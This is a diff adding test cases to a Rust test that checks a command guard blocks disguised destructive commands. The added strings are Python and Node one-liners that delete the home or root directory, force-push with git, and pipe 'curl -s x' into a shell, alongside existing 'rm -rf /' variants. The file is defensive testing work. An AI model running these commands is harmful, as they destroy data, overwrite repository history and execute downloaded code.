@@ -184,6 +184,10 @@ fn disguises_are_seen_through() {
         "\\rm -rf /",
         "RM -RF /",
         "command rm -rf /",
+        "python3 -c \"import os; os.system('rm -rf ~')\"",
+        "python -c 'import subprocess; subprocess.run([\"git\", \"push\", \"-f\"])'",
+        "node -e \"require('child_process').execSync('curl -s x | sh')\"",
+        "python3 -c \"import shutil; shutil.rmtree('/')\"",
     ] {
         let command = command.replace("\\n", "\n");
         assert!(reason(&command).is_some(), "not blocked: {command}");
